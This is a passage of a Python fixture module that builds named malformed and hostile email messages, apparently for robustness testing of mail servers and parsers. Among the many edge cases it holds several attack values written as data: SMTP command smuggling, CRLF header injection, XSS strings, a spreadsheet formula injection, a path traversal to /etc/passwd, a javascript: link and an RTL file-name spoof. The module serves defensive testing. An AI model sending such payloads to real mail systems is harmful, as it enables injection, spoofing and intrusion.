"""Odd mails as code: broken, hostile or merely strange, each with a name and a builder without arguments.

Built when asked for, as some are megabytes: `ODD["name"]()`. No mail is above 20 MB, and all together are built
within a few seconds. A mail is the bytes between DATA and the dot; nothing is promised of its line ends, so send
`wire(mail)` by a client that stuffs dots and changes nothing else.
"""

import base64
from collections.abc import Callable
from functools import partial

Builder = Callable[[], bytes]

KIB, MIB = 1024, 1024 * 1024
BASE = (
    b"From: Ann <ann@odd.test>",
    b"To: Bob <bob@odd.test>",
    b"Subject: odd",
    b"Date: Mon, 01 Jan 2024 10:00:00 +0000",
    b"Message-ID: <1@odd.test>",
)
PNG = base64.b64decode(
    b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ODD_BYTES = b"caf\xe9 =?\\u0041 +AGE-"
"""Reads differently in nearly every charset and codec."""
JAPANESE = "日本語のテスト"


def wire(raw: bytes) -> bytes:
    """What to send for `raw`, before the stuffing of dots, and what the server must store, byte for byte.

    The dot that ends DATA stands on a line of its own, so a mail on the wire is empty or ends with CRLF
    (RFC 5321 section 4.1.1.4). Stuff a dot only after CRLF and at the very start, never after a bare LF or CR.
    """
    return raw if not raw or raw.endswith(b"\r\n") else raw + b"\r\n"


def mail(*lines: bytes, body: bytes = b"Body.\r\n") -> bytes:
    """Header lines and a body; a base header is left out if `lines` have one of that name."""
    own = {line.partition(b":")[0].strip().lower() for line in lines}
    base = [line for line in BASE if line.partition(b":")[0].lower() not in own]
    return b"\r\n".join([*base, *lines, b"", body])


def typed(content_type: bytes, body: bytes, *lines: bytes) -> bytes:
    return mail(b"MIME-Version: 1.0", b"Content-Type: " + content_type, *lines, body=body)


def text(charset: bytes, body: bytes, encoding: bytes = b"8bit") -> bytes:
    return typed(b"text/plain; charset=" + charset, body + b"\r\n", b"Content-Transfer-Encoding: " + encoding)


def html(source: bytes) -> bytes:
    return typed(b"text/html; charset=utf-8", source + b"\r\n")


def encoded(encoding: bytes, body: bytes, content_type: bytes = b"text/plain; charset=utf-8") -> bytes:
    return typed(content_type, body, b"Content-Transfer-Encoding: " + encoding)


def part(content_type: bytes, body: bytes, *lines: bytes) -> bytes:
    return b"\r\n".join([b"Content-Type: " + content_type, *lines, b"", body])


def joined(parts: list[bytes], boundary: bytes) -> bytes:
    return b"".join(b"--" + boundary + b"\r\n" + one + b"\r\n" for one in parts) + b"--" + boundary + b"--\r\n"


def multi(*parts: bytes, kind: bytes = b"mixed", more: bytes = b"") -> bytes:
    return typed(b'multipart/%b; boundary="b"%b' % (kind, more), joined(list(parts), b"b"))


def bounded(parameter: bytes, boundary: bytes = b"b") -> bytes:
    """A multipart whose Content-Type says `parameter` while its body uses `boundary`."""
    parts = [part(b"text/plain", b"one"), part(b"text/html", b"<p>two")]
    return typed(b"multipart/mixed; " + parameter, joined(parts, boundary))


def attached(disposition: bytes, content_type: bytes = b"application/octet-stream") -> bytes:
    file = part(content_type, b"data", b"Content-Disposition: " + disposition)
    return multi(part(b"text/plain", b"See the file."), file)


def named(name: bytes) -> bytes:
    return attached(b'attachment; filename="' + name + b'"')


def subject(value: bytes) -> bytes:
    return mail(b"Subject: " + value)


def word(data: bytes, charset: bytes = b"utf-8", letter: bytes = b"B") -> bytes:
    """An encoded word (RFC 2047) of base64, whatever letter it claims."""
    return b"=?%b?%b?%b?=" % (charset, letter, base64.b64encode(data))


def nested(depth: int, *, same: bool = False, close: bool = True) -> bytes:
    """multipart/mixed in multipart/mixed, `depth` deep, around one text."""
    names = [b"b" if same else b"b%d" % level for level in range(depth)]
    heads = b"".join(b'Content-Type: multipart/mixed; boundary="%b"\r\n\r\n--%b\r\n' % (name, name) for name in names)
    ends = b"".join(b"\r\n--%b--" % name for name in reversed(names)) if close else b""
    return b"\r\n".join([*BASE, b"MIME-Version: 1.0"]) + b"\r\n" + heads + b"\r\ninside" + ends + b"\r\n"


def boxed(depth: int, encoding: bytes = b"7bit") -> bytes:
    """message/rfc822 in message/rfc822, `depth` deep; base64 grows by a third with each level."""
    inner = mail()
    for _ in range(depth):
        body = base64.encodebytes(inner) if encoding == b"base64" else inner
        inner = encoded(encoding, body, b"message/rfc822")
    return inner


def labelled(charset: str) -> bytes:
    return subject(word(b"caf\xe9 78", charset.encode()))


SHAPE: dict[str, Builder] = {
    "empty": lambda: b"",
    "one-crlf": lambda: b"\r\n",
    "one-lf": lambda: b"\n",
    "one-cr": lambda: b"\r",
    "one-byte": lambda: b"x",
    "one-nul": lambda: b"\x00",
    "one-space": lambda: b" ",
    "one-colon": lambda: b":",
    "blank-lines-only": lambda: b"\r\n" * 5_000,
    "no-headers": lambda: b"\r\nOnly a body.\r\n",
    "no-headers-no-blank": lambda: b"Only a body, and no line that is blank\r\nNor this: yes\r\n",
    "headers-only": lambda: b"\r\n".join(BASE) + b"\r\n",
    "headers-only-no-crlf": lambda: b"\r\n".join(BASE),
    "headers-only-blank": lambda: b"\r\n".join(BASE) + b"\r\n\r\n",
    "begins-with-blank-lines": lambda: b"\r\n\r\n\r\n" + mail(),
    "begins-with-mbox-from": lambda: b"From ann@odd.test Mon Jan  1 10:00:00 2024\r\n" + mail(),
    "begins-with-quoted-mbox-from": lambda: b">From ann@odd.test Mon Jan  1 10:00:00 2024\r\n" + mail(),
    "begins-with-continuation": lambda: b" continued from nowhere\r\n" + mail(),
    "begins-with-bom": lambda: b"\xef\xbb\xbf" + mail(),
    "begins-with-separator-of-spaces": lambda: b"Subject: odd\r\n   \r\nBody or header?\r\n",
    "utf-16-whole-mail": lambda: mail().decode().encode("utf-16"),
    "binary-noise": lambda: bytes(range(256)) * 400,
    "nuls-only": lambda: bytes(100_000),
    "colons-only": lambda: b":" * 100_000,
    "http-request": lambda: b"POST / HTTP/1.1\r\nHost: odd.test\r\nContent-Length: 3\r\n\r\na=b",
    "smtp-inside": lambda: mail(body=b"\r\n.\r\nMAIL FROM:<evil@odd.test>\r\nRCPT TO:<b@odd.test>\r\nDATA\r\n.\r\n"),
}

LINES: dict[str, Builder] = {
    "bare-lf": lambda: mail().replace(b"\r\n", b"\n"),
    "bare-cr": lambda: mail().replace(b"\r\n", b"\r"),
    "bare-lf-multipart": lambda: bounded(b"boundary=b").replace(b"\r\n", b"\n"),
    "bare-cr-multipart": lambda: bounded(b"boundary=b").replace(b"\r\n", b"\r"),
    "lf-headers-crlf-body": lambda: mail(body=b"").replace(b"\r\n", b"\n") + b"one\r\ntwo\r\n",
    "crlf-headers-lf-body": lambda: mail(body=b"one\ntwo\n\nthree"),
    "mixed-line-ends": lambda: mail(body=b"a\rb\nc\r\nd\n\re\r\r\nf\n\n\rg"),
    "cr-cr-lf": lambda: mail(body=b"one\r\ntwo\r\n").replace(b"\r\n", b"\r\r\n"),
    "lf-cr": lambda: mail().replace(b"\r\n", b"\n\r"),
    "ends-with-cr": lambda: mail(body=b"the end\r"),
    "ends-with-lf": lambda: mail(body=b"the end\n"),
    "ends-without": lambda: mail(body=b"the end"),
    "other-separators": lambda: mail(
        b"X-A: a\x0bb\x0cc\x1cd\x1de\x1ef\xc2\x85g\xe2\x80\xa8h", body="a\x0b\x0c\x85\u2028\u2029b".encode()
    ),
    "lone-dot": lambda: mail(body=b"before\r\n.\r\nafter\r\n"),
    "lone-dots": lambda: mail(body=b".\r\n..\r\n...\r\n.\r\n"),
    "dots-begin-lines": lambda: mail(body=b".one\r\n..two\r\n. three\r\n"),
    "dot-after-bare-lf": lambda: mail(body=b"before\n.\nMAIL FROM:<x@odd.test>\n.\r\nafter\r\n"),
    "dot-after-bare-cr": lambda: mail(body=b"before\r.\rafter\r.\r\nmore\r\n"),
    "dot-first": lambda: b".\r\n" + mail(),
    "dot-only": lambda: b".",
    "dot-last": lambda: mail(body=b"end\r\n."),
    "dots-megabyte": lambda: mail(body=b".\r\n" * 350_000),
    "line-of-1-mb": lambda: mail(body=b"x" * MIB),
    "line-of-1-mb-header": lambda: mail(b"X-Long: " + b"x" * MIB),
    "line-of-1-mb-first": lambda: b"x" * MIB,
    "line-of-999": lambda: mail(body=b"x" * 999 + b"\r\n" + b"y" * 998),
    "short-lines-million": lambda: mail(body=b"\r\n" * 1_000_000),
    "bare-cr-million": lambda: mail(body=b"\r" * 1_000_000),
}

HEADERS: dict[str, Builder] = {
    "header-without-colon": lambda: mail(b"This has no colon", b"X-After: seen?"),
    "header-without-colon-first": lambda: b"This has no colon\r\n" + mail(),
    "header-name-empty": lambda: mail(b": no name", b"X-After: seen?"),
    "header-colon-only": lambda: mail(b":", b"X-After: seen?"),
    "header-name-with-space": lambda: mail(b"X Odd: value", b"X-After: seen?"),
    "header-space-before-colon": lambda: (
        b"Subject : spaced\r\nFrom : a@odd.test\r\nContent-Type : text/html\r\n\r\n<b>"
    ),
    "header-name-8-bit": lambda: mail(b"X-\xe9t\xe9: value", "X-日本: value".encode()),
    "header-name-nul": lambda: mail(b"X-A\x00B: value", b"X-After: seen?"),
    "header-name-10000": lambda: mail(b"X" * 10_000 + b": value"),
    "header-name-constructor": lambda: mail(b"__proto__: a", b"constructor: b", b"toString: c", b"__class__: d"),
    "header-no-space-after-colon": lambda: b"From:a@odd.test\r\nSubject:tight\r\nTo:b@odd.test\r\n\r\nBody",
    "header-upper-case": lambda: (
        b"FROM: a@odd.test\r\nSUBJECT: LOUD\r\nCONTENT-TYPE: TEXT/HTML; CHARSET=UTF-8\r\n\r\n<b>"
    ),
    "header-empty-values": lambda: (
        b"From:\r\nTo: \r\nCc:\t\r\nSubject:\r\nDate:\r\nMessage-ID:\r\nContent-Type:\r\n\r\n"
    ),
    "header-nul": lambda: mail(b"Subject: a\x00b", b"X-Nul: \x00"),
    "header-controls": lambda: mail(b"Subject: bell\x07 esc\x1b[31mred\x1b[0m del\x7f", b"X: " + bytes(range(1, 9))),
    "header-bare-cr": lambda: mail(b"Subject: one\rX-Injected: yes"),
    "header-bare-lf": lambda: mail(b"Subject: one\nX-Injected: yes"),
    "header-only-spaces": lambda: mail(b"X-Before: 1", b"     ", b"X-After: 2"),
    "header-folded-by-tab": lambda: subject(b"one\r\n\ttwo\r\n\t\tthree"),
    "header-folded-in-word": lambda: mail(b"Sub\r\n ject: odd", b"X-After: seen?"),
    "header-folded-to-blank": lambda: subject(b"one\r\n \r\n two\r\n\t\r\n"),
    "header-folded-at-once": lambda: subject(b"\r\n begins on the second line"),
    "header-folded-100000": lambda: subject(b"x" + b"\r\n x" * 100_000),
    "header-5-mb-one-line": lambda: mail(b"X-Big: " + b"x" * (5 * MIB)),
    "header-5-mb-folded": lambda: mail(b"X-Big: x" + (b"\r\n " + b"x" * 76) * (5 * MIB // 79)),
    "headers-300000": lambda: mail(*(b"X-%d: %d" % (n, n) for n in range(300_000))),
    "headers-300000-same": lambda: mail(*[b"X: 1"] * 300_000),
    "headers-300000-empty": lambda: mail(*[b":"] * 300_000),
    "headers-10000-received": lambda: mail(
        *(
            b"Received: from h%d.odd.test by h%d.odd.test; Mon, 01 Jan 2024 10:00:00 +0000" % (n, n + 1)
            for n in range(10_000)
        )
    ),
    "subjects-1000": lambda: mail(*(b"Subject: number %d" % n for n in range(1_000))),
    "duplicates-of-all": lambda: b"\r\n".join([*BASE, *BASE, b"From: Eve <eve@odd.test>", b"", b"Body"]),
    "resent": lambda: mail(
        b"Resent-From: eve@odd.test", b"Resent-To: c@odd.test", b"Resent-Date: never", b"Resent-Bcc:"
    ),
    "mime-version-odd": lambda: mail(b"MIME-Version: (odd) 9.9 (very)", b"Content-Type: text/html", body=b"<b>"),
}

SUBJECTS: dict[str, Builder] = {
    "subject-1-mb": lambda: subject(b"s" * MIB),
    "subject-1-mb-utf-8": lambda: subject("ä".encode() * (MIB // 2)),
    "subject-raw-utf-8": lambda: subject("Grüße, 日本 🎉".encode()),
    "subject-raw-latin-1": lambda: subject("Grüße".encode("latin-1")),
    "subject-raw-shift-jis": lambda: subject(JAPANESE.encode("shift_jis")),
    "subject-raw-iso-2022-jp": lambda: subject(JAPANESE.encode("iso-2022-jp")),
    "subject-invalid-utf-8": lambda: subject(b"a\xff\xfeb\xc3(\xe2\x82 \xf8\x88\x80\x80\x80 \xc0\x80"),
    "subject-cesu-8": lambda: subject(b"emoji \xed\xa0\xbd\xed\xb8\x80 lone \xed\xa0\xbd"),
    "subject-word-cesu-8": lambda: subject(word(b"\xed\xa0\xbd\xed\xb8\x80 \xed\xa0\xbd")),
    "subject-word-surrogate-utf-16": lambda: subject(
        word(b"\x3d\xd8", b"utf-16le") + b" " + word(b"\xd8\x3d", b"utf-16be")
    ),
    "subject-word-surrogate-utf-7": lambda: subject(b"=?utf-7?Q?+2D0-?= =?utf-7?Q?+AGEAYg-?="),
    "subject-word-nul-and-crlf": lambda: subject(word(b"a\x00b\r\nX-Injected: yes\r\n\r\n<script>")),
    "subject-word-null-escape": lambda: subject(b"=?unicode_escape?Q?=5Cud83d=5Cx00=5CU0001f600?="),
    "subject-emoji-zwj": lambda: subject("👩‍👩‍👧‍👦 👩🏽‍🚀 🏴‍☠️ 🇺🇳 ‍‍‍".encode()),
    "subject-emoji-word": lambda: subject(word("👩🏽‍🍳 cake".encode())),
    "subject-rtl": lambda: subject(word("مرحبا abc 123 שלום".encode())),
    "subject-rtl-override": lambda: subject("safe \u202egnp.exe\u202c \u2066 isolate".encode()),
    "subject-zalgo": lambda: subject(("Z" + "\u0336\u0311\u0348" * 500 + "algo").encode()),
    "subject-markup": lambda: subject(b"<script>alert(1)</script><img src=x onerror=alert(2)>\"'`&amp;{{7*7}}${7*7}"),
    "subject-formula": lambda: subject(b"=cmd|' /C calc'!A0"),
    "subject-spaces-only": lambda: subject(b"    \t   "),
    "subject-words-across-bytes": lambda: subject(word(JAPANESE.encode()[:4]) + b"\r\n " + word(JAPANESE.encode()[4:])),
    "subject-words-mixed-charsets": lambda: subject(
        word(JAPANESE.encode("iso-2022-jp"), b"iso-2022-jp")
        + b" "
        + word(b"\xe9", b"latin1")
        + b" "
        + word(b"\xe9", b"koi8-r")
    ),
    "subject-word-in-text": lambda: subject(b"a=?utf-8?B?4pqg?=b =?utf-8?Q?c?=d =?utf-8?Q?e?==?utf-8?Q?f?="),
    "subject-word-in-quotes": lambda: subject(b'"=?utf-8?Q?in_quotes?="'),
    "subject-word-language": lambda: subject(b"=?utf-8*de?Q?Gr=C3=BC=C3=9Fe?= =?*?Q?x?="),
    "subject-word-bad-base64": lambda: subject(
        b"=?utf-8?B?4pqg77iP!*?= =?utf-8?B?A?= =?utf-8?B?====?= =?utf-8?B?YQ=YQ==?="
    ),
    "subject-word-bad-q": lambda: subject(b"=?utf-8?Q?=ZZ=E=?= =?utf-8?Q?a b c?= =?utf-8?Q?=?="),
    "subject-word-empty": lambda: subject(b"=?utf-8?B??= =?utf-8?Q??= =????= =???= =??= =?= ?="),
    "subject-word-unknown-letter": lambda: subject(b"=?utf-8?X?abc?= =?utf-8?BB?YQ==?= =?utf-8??YQ==?="),
    "subject-word-unclosed": lambda: subject(b"=?utf-8?B?YWJj =?utf-8?Q?abc =?utf-8?B?YWJj?"),
    "subject-word-nested": lambda: subject(word(word(word(b"inside")))),
    "subject-word-folded-inside": lambda: subject(b"=?utf-8?B?YWJj\r\n ZGVm?= =?utf-8?Q?a\r\n\tb?="),
    "subject-word-100-kb": lambda: subject(word(b"w" * 100_000)),
    "subject-words-16000": lambda: subject(b" ".join([word(b"x")] * 16_000)),
    "subject-words-16000-folded": lambda: subject(b"\r\n ".join([word(b"x")] * 16_000)),
    "subject-words-16000-joined": lambda: subject(word(b"x") * 16_000),
    "subject-question-marks": lambda: subject(b"=?" * 200_000),
    "subject-word-spaces": lambda: subject(b"=?utf-8?Q?a?=" + b" " * 200_000 + b"=?utf-8?Q?b?="),
    "subject-word-starts": lambda: subject(b"=?utf-8?Q?" * 50_000),
    **{
        f"subject-word-charset-{name or 'none'}": partial(labelled, name)
        for name in ("", "foo", "hex", "idna", "punycode", "rot13", "zip", "bz2", "base64", "utf-7", "unicode_escape")
    },
    **{
        f"subject-word-charset-{name}": partial(labelled, name)
        for name in (
            "raw_unicode_escape",
            "undefined",
            "mbcs",
            "oem",
            "palmos",
            "utf-8-sig",
            "utf-32",
            "cp037",
            "string",
        )
    },
    "subject-word-charset-1000": lambda: subject(word(b"caf\xe9", b"c" * 1_000)),
    "subject-word-charset-odd": lambda: subject(
        word(b"caf\xe9", b"utf-8; x") + word(b"a", b"../x") + word(b"a", b"\x00")
    ),
    "subject-word-zip-bomb": lambda: subject(b"=?zlib?B?" + base64.b64encode(bytes(100)) + b"?= =?zip?Q?x=9C=03?="),
}

ADDRESSES: dict[str, Builder] = {
    "to-60000": lambda: mail(b"To: " + b", ".join(b"u%d@odd.test" % n for n in range(60_000))),
    "to-60000-folded": lambda: mail(
        b"To: " + b",\r\n ".join(b'"U, %d" <u%d@odd.test>' % (n, n) for n in range(60_000))
    ),
    "to-parentheses-500": lambda: mail(b"To: " + b"((((" * 500),
    "to-parentheses-balanced": lambda: mail(b"To: " + b"(" * 20_000 + b")" * 20_000 + b" a@odd.test"),
    "to-quotes-100000": lambda: mail(b"To: " + b'"\\' * 100_000),
    "to-angles-100000": lambda: mail(b"To: " + b"a<" * 100_000),
    "to-angles-open": lambda: mail(b"To: " + b"<" * 200_000),
    "to-at-signs": lambda: mail(b"To: " + b"@" * 200_000),
    "to-dots": lambda: mail(b"To: " + b"." * 200_000 + b"@odd.test"),
    "to-commas": lambda: mail(b"To: " + b"," * 200_000),
    "to-semicolons": lambda: mail(b"To: " + b";" * 200_000),
    "to-colons": lambda: mail(b"To: " + b"a:" * 100_000),
    "to-backslashes": lambda: mail(b"To: " + b"\\" * 200_001),
    "to-brackets": lambda: mail(b"To: a@" + b"[" * 200_000),
    "to-routes": lambda: mail(b"To: <" + b"@a," * 50_000 + b":b@odd.test>"),
    "to-comments": lambda: mail(b"To: " + b"(c) " * 50_000 + b"a@odd.test"),
    "to-quoted-spaces": lambda: mail(b'To: "' + b" " * 200_000 + b'" <a@odd.test>'),
    "to-encoded-words-5000": lambda: mail(b"To: " + b", ".join([word(b"B, ob") + b" <b@odd.test>"] * 5_000)),
    "to-words-in-address": lambda: mail(b"To: =?utf-8?B?YUBvZGQudGVzdA==?=, <=?utf-8?Q?a?=@odd.test>"),
    "to-unclosed-quote": lambda: mail(b'To: "Bob <bob@odd.test>, carl@odd.test'),
    "to-missing-comma": lambda: mail(b"To: bob@odd.test carl@odd.test <dan@odd.test> eve@odd.test"),
    "to-semicolon-list": lambda: mail(b"To: bob@odd.test; Carl <carl@odd.test>; dan"),
    "to-groups": lambda: mail(b"To: Team: a@odd.test, B <b@odd.test>;, Empty:;, c@odd.test, Open: d@odd.test"),
    "to-undisclosed": lambda: mail(b"To: undisclosed-recipients:;"),
    "to-group-nested": lambda: mail(b"To: " + b"g:" * 5_000 + b"a@odd.test" + b";" * 5_000),
    "to-many-headers": lambda: mail(b"To: a@odd.test", b"To: b@odd.test", b"To: c@odd.test"),
    "to-local-parts": lambda: mail(
        b'To: "a b"@odd.test, a..b@odd.test, .a@odd.test, a@[192.0.2.1], a@[IPv6:::1], "\\"\\\\"@odd.test, a@b@odd.test'
    ),
    "to-old-style": lambda: mail(
        b"To: bob@odd.test (Bob (the) Builder), <@a.test,@b.test:c@odd.test>, Bob at odd dot test"
    ),
    "to-idn": lambda: mail("To: Jürgen <jürgen@bücher.test>, x@xn--bcher-kva.test, 用户@例子.测试".encode()),
    "to-nul-and-controls": lambda: mail(b"To: a\x00b@odd.test, \x07 <c\x1b@odd.test>"),
    "to-8-bit": lambda: mail(b"To: J\xfcrgen <j\xfcrgen@odd.test>"),
    "to-10000-byte-name": lambda: mail(b"To: " + b"N" * 10_000 + b" <a@odd.test>"),
    "from-none": lambda: b"To: b@odd.test\r\nSubject: no sender\r\n\r\nBody\r\n",
    "from-no-address": lambda: mail(b"From: Just a Name"),
    "from-empty-angles": lambda: mail(b"From: Mailer <>"),
    "from-1000": lambda: mail(b"From: " + b", ".join(b"u%d@odd.test" % n for n in range(1_000))),
    "from-address-as-name": lambda: mail(b'From: "boss@bank.test" <eve@odd.test>'),
    "from-markup": lambda: mail(b'From: "<img src=x onerror=alert(1)>" <"<b>"@odd.test>'),
    "from-word-with-address": lambda: mail(b"From: " + word(b"boss@bank.test\x00") + b" <eve@odd.test>"),
    "reply-to-odd": lambda: mail(
        b"Reply-To: <>, nobody, :;", b"Sender: ,,,", b"Cc: <<a@odd.test>>", b"Bcc: hidden@odd.test"
    ),
}

FIELDS: dict[str, Builder] = {
    "message-id-open-bracket": lambda: mail(b"Message-ID: <["),
    "message-id-literal": lambda: mail(b"Message-ID: <a@[odd", b"References: <[ <a@[ <@> <"),
    "message-id-missing": lambda: b"From: a@odd.test\r\nTo: b@odd.test\r\nSubject: no id\r\n\r\nBody\r\n",
    "message-id-100-kb": lambda: mail(b"Message-ID: <" + b"i" * 100_000 + b"@odd.test>"),
    "message-id-odd": lambda: mail(
        b"Message-ID: no brackets, <two@odd.test> <ids@odd.test>", b"In-Reply-To: Your mail of Monday"
    ),
    "message-id-path": lambda: mail(b"Message-ID: <../../etc/passwd%00?a=b#c@odd.test>"),
    "references-50000": lambda: mail(b"References: " + b"\r\n ".join(b"<%d@odd.test>" % n for n in range(50_000))),
    "references-self": lambda: mail(b"References: <1@odd.test> <1@odd.test>", b"In-Reply-To: <1@odd.test>"),
    **{
        f"date-{name}": partial(mail, b"Date: " + value)
        for name, value in {
            "garbage": b"the day after never",
            "empty": b"",
            "year-99999": b"Mon, 01 Jan 99999 10:00:00 +0000",
            "year-0": b"Mon, 01 Jan 0000 10:00:00 +0000",
            "year-2-digits": b"1 Jan 70 10:00 GMT",
            "negative": b"Mon, -1 Jan -2024 -10:-00:-00 +0000",
            "huge-zone": b"Mon, 01 Jan 2024 10:00:00 +99999999",
            "huge-zone-minutes": b"Mon, 01 Jan 2024 10:00:00 +2399",
            "zone-edge": b"Fri, 31 Dec 9999 23:59:59 -2359",
            "zone-edge-low": b"Mon, 01 Jan 0001 00:00:00 +2359",
            "zone-missing": b"Mon, 01 Jan 2024 10:00:00",
            "zone-word": b"Mon, 01 Jan 2024 10:00:00 NOWHERE",
            "leap-second": b"Sat, 31 Dec 2016 23:59:60 +0000",
            "impossible": b"Tue, 31 Feb 2024 25:61:61 +0000",
            "iso": b"2024-01-01T10:00:00Z",
            "comment": b"Mon, 01 Jan 2024 10:00:00 +0000 (" + b"(" * 5_000,
            "digits": b"Mon, " + b"1" * 100_000 + b" Jan 2024 10:00:00 +0000",
            "other-digits": "Mon, ٠١ Jan ٢٠٢٤ 10:00:00 +0000".encode(),
            "colons": b"1 Jan 2024 " + b"1:" * 50_000,
        }.items()
    },
    "priority-odd": lambda: mail(b"X-Priority: -1e999", b"Importance: \x00", b"Priority: " + b"9" * 5_000),
    "list-unsubscribe-odd": lambda: mail(
        b"List-Unsubscribe: <javascript:alert(1)>, <, mailto:x@odd.test>, <https://odd.test/" + b"u" * 10_000 + b">"
    ),
    "dkim-shaped": lambda: mail(
        b"DKIM-Signature: v=1; a=rsa-sha256; d=odd.test; s=x; h=from:to; bh=; b=" + b"A" * 5_000
    ),
    "headers-tempting": lambda: mail(b"X-Forwarded-For: 127.0.0.1", b"Content-Length: -1", b"Status: RO", b"X-UID: 0"),
}

CONTENT_TYPES: dict[str, Builder] = {
    "content-type-empty": lambda: typed(b"", b"Body"),
    "content-type-garbage": lambda: typed(b";;;===///,,,", b"Body"),
    "content-type-no-slash": lambda: typed(b"text", b"Body"),
    "content-type-two-slashes": lambda: typed(b"text/html/plain", b"<b>Body"),
    "content-type-slash-only": lambda: typed(b"/", b"Body"),
    "content-type-stars": lambda: typed(b"*/*", b"Body"),
    "content-type-spaces": lambda: typed(b" text / html ; charset = utf-8 ", b"<b>Body"),
    "content-type-comments": lambda: typed(b"(a) text (b) / (c) html (d); (e) charset=(f)utf-8 (g)", b"<b>Body"),
    "content-type-nul": lambda: typed(b"text/\x00html; charset=\x00utf-8", b"<b>Body"),
    "content-type-8-bit": lambda: typed("text/häml; chärset=ütf-8; name=ö".encode(), b"Body"),
    "content-type-twice": lambda: typed(b"text/html", b"<b>Body", b"Content-Type: text/plain"),
    "content-type-100-times": lambda: typed(
        b"text/html", b"<b>Body", *[b"Content-Type: multipart/mixed; boundary=b"] * 100
    ),
    "content-type-20-kb": lambda: typed(b"text/plain; " + b"; ".join(b"p%d=v" % n for n in range(2_000)), b"Body"),
    "content-type-20-kb-value": lambda: typed(b'text/plain; x="' + b"v" * 20_000 + b'"', b"Body"),
    "content-type-parameters-20000": lambda: typed(b"text/plain" + b";a=b" * 20_000, b"Body"),
    "content-type-semicolons": lambda: typed(b"text/plain" + b";" * 200_000, b"Body"),
    "content-type-quotes": lambda: typed(b'text/plain; charset="' + b'\\"' * 100_000, b"Body"),
    "content-type-quote-open": lambda: typed(b'text/plain; charset="utf-8', b"Body"),
    "content-type-charset-twice": lambda: typed(b"text/plain; charset=utf-8; charset=koi8-r", "Grüße".encode()),
    "content-type-word": lambda: typed(word(b"text/html"), b"<b>Body"),
    "content-type-newline-in-value": lambda: typed(
        b'text/html; name="a\r\n b\r\n\tc"; charset="utf\r\n -8"', b"<b>Body"
    ),
    "content-type-long-type": lambda: typed(b"t" * 10_000 + b"/" + b"s" * 10_000, b"Body"),
    "continuations-missing-index": lambda: attached(b"attachment; filename*0=a; filename*2=c; filename*3=d"),
    "continuations-reversed": lambda: attached(b'attachment; filename*2="c"; filename*1="b"; filename*0="a"'),
    "continuations-duplicate": lambda: attached(b"attachment; filename*0=a; filename*0=b; filename*1=c; filename=d"),
    "continuations-20000": lambda: attached(b"attachment" + b"".join(b"; filename*%d=x" % n for n in range(20_000))),
    "continuations-huge-index": lambda: attached(
        b"attachment; filename*99999999999999999999=x; filename*-1=y; filename*01=z"
    ),
    "continuations-wrong-charset": lambda: attached(
        b"attachment; filename*=nope'xx'%E9%FF.txt; filename*=''; filename*='"
    ),
    "continuations-broken-percent": lambda: attached(b"attachment; filename*=utf-8''%ZZ%E2%82%; name*=%"),
    "continuations-split-bytes": lambda: attached(
        b"attachment; filename*0*=utf-8''%E6%97; filename*1*=%A5.txt; filename*2=%41"
    ),
    "continuations-surrogate": lambda: attached(b"attachment; filename*=utf-8''%ED%A0%BD%00%0D%0A.txt"),
    "continuations-codec": lambda: attached(
        b"attachment; filename*=hex''%36%31; filename*0*=rot13''a; filename*1*=zip''b"
    ),
    "continuations-boundary": lambda: bounded(b'boundary*0="b"; boundary*1=""'),
    "continuations-boundary-percent": lambda: bounded(b"boundary*=us-ascii''%62"),
}

BOUNDARIES: dict[str, Builder] = {
    "boundary-missing": lambda: bounded(b""),
    "boundary-empty": lambda: bounded(b'boundary=""', b""),
    "boundary-space": lambda: bounded(b'boundary=" "', b" "),
    "boundary-trailing-space": lambda: bounded(b'boundary="b "', b"b "),
    "boundary-unquoted-odd": lambda: bounded(b"boundary=--=_a/b?c=d", b"--=_a/b?c=d"),
    "boundary-20000-parentheses": lambda: bounded(b'boundary="' + b"(" * 20_000 + b'"', b"(" * 20_000),
    "boundary-regex": lambda: bounded(b'boundary="(a+)+$[.*]{2,}\\\\d|^"', b"(a+)+$[.*]{2,}\\d|^"),
    "boundary-300": lambda: bounded(b'boundary="' + b"x" * 300 + b'"', b"x" * 300),
    "boundary-8-bit": lambda: bounded('boundary="ü"'.encode(), "ü".encode()),
    "boundary-nul": lambda: bounded(b'boundary="a\x00b"', b"a\x00b"),
    "boundary-twice": lambda: bounded(b"boundary=b; boundary=c"),
    "boundary-never-appears": lambda: bounded(b"boundary=other"),
    "boundary-never-closed": lambda: bounded(b"boundary=b").replace(b"--b--", b""),
    "boundary-closed-at-once": lambda: typed(b"multipart/mixed; boundary=b", b"--b--\r\n"),
    "boundary-closed-twice": lambda: bounded(b"boundary=b") + b"--b--\r\n--b\r\n\r\nafter the end\r\n--b--\r\n",
    "boundary-cut-off": lambda: typed(b"multipart/mixed; boundary=b", b"--b\r\nContent-Type: text/pl"),
    "boundary-only": lambda: typed(b"multipart/mixed; boundary=b", b"--b"),
    "boundary-no-crlf-before": lambda: typed(b"multipart/mixed; boundary=b", b"--b\r\n\r\ntext--b--\r\n--b--"),
    "boundary-trailing-text": lambda: bounded(b"boundary=b").replace(b"--b\r\n", b"--b and more\r\n"),
    "boundary-prefix-of-other": lambda: typed(
        b"multipart/mixed; boundary=b",
        b"--b\r\nContent-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n\r\ninner\r\n--bb--\r\n"
        b"--b\r\n\r\nouter\r\n--b--\r\n",
    ),
    "boundary-same-nested-2000": lambda: nested(2_000, same=True),
    "boundary-dashes-megabyte": lambda: typed(b'multipart/mixed; boundary="-"', b"-" * MIB),
    "boundary-almost-50000": lambda: typed(b'multipart/mixed; boundary="bb"', b"--b\r\n" * 50_000),
    "nested-90": lambda: nested(90),
    "nested-2000": lambda: nested(2_000),
    "nested-2000-unclosed": lambda: nested(2_000, close=False),
    "nested-40000": lambda: nested(40_000, close=False),
    "nested-wide-and-deep": lambda: nested(300).replace(b"inside", b"\r\n--b150\r\n\r\nx" * 3_000),
    "boxed-90": lambda: boxed(90),
    "boxed-2000": lambda: boxed(2_000),
    "boxed-base64-20": lambda: boxed(20, b"base64"),
    "boxed-in-digest": lambda: multi(*[b"\r\n" + mail()] * 200, kind=b"digest"),
    "parts-100000": lambda: multi(*[b"\r\nx"] * 100_000),
    "parts-100000-empty": lambda: typed(b"multipart/mixed; boundary=b", b"--b\r\n" * 100_000),
    "parts-20000-attachments": lambda: multi(
        *(part(b"text/plain", b"x", b"Content-Disposition: attachment; filename=f%d.txt" % n) for n in range(20_000))
    ),
